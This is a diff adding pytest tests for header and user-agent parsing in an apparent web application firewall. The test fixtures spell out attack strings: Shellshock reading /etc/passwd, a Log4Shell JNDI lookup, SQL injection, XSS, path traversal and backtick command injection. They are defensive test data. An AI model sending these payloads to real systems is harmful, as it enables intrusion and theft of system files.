@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from mlwaf.request import Arg, Limits, RequestError, from_wire, url_decode
+from mlwaf.request import Arg, Limits, RequestError, from_wire, header_args, plain_agent, url_decode
 
 
 def test_query_is_url_decoded_like_modsecurity() -> None:
@@ -147,3 +147,41 @@ def test_decoder_never_crashes(record: dict) -> None:
         return
     assert len(req.args) <= Limits().max_args
     assert all(isinstance(a.value, str) for a in req.args)
+
+
+def test_header_args_read_a_referers_query_and_other_headers_whole() -> None:
+    headers = {
+        "user-agent": "`id`",
+        "referer": "https://shop.example/list?page=2&q=a%27+or+1%3D1#frag",
+        "accept": "text/html",
+    }
+    assert header_args(headers, ("user-agent", "referer", "x-forwarded-for"), Limits()) == [
+        Arg("header", "user-agent", "`id`"),
+        Arg("header", "referer:page", "2"),
+        Arg("header", "referer:q", "a' or 1=1"),
+    ]
+    assert header_args({"referer": "https://shop.example/"}, ("referer",), Limits()) == []
+    capped = header_args({"x-forwarded-for": "x" * 50}, ("x-forwarded-for",), Limits(max_value_chars=10))
+    assert capped == [Arg("header", "x-forwarded-for", "x" * 10)]
+
+
+@pytest.mark.parametrize(
+    ("agent", "plain"),
+    [
+        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", True),
+        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", True),
+        ("curl/8.5.0", True),
+        ("Apache/2.4.29 (Ubuntu) OpenSSL/1.1.1 (internal dummy connection)", True),
+        ("() { :; }; /bin/cat /etc/passwd", False),
+        ("Mozilla/5.0' or 1=1--", False),
+        ("${jndi:ldap://x.example/a}", False),
+        ("<script>alert(1)</script>", False),
+        ("1 union select password from users", False),  # no version, no comment: read
+        ("(../../etc/passwd)", False),
+        ("a/b/c", False),
+        ("", False),
+    ],
+)
+def test_plain_user_agents_are_not_read(agent: str, plain: bool) -> None:
+    assert plain_agent(agent) is plain
+    assert bool(header_args({"user-agent": agent}, ("user-agent",), Limits())) is (bool(agent) and not plain)
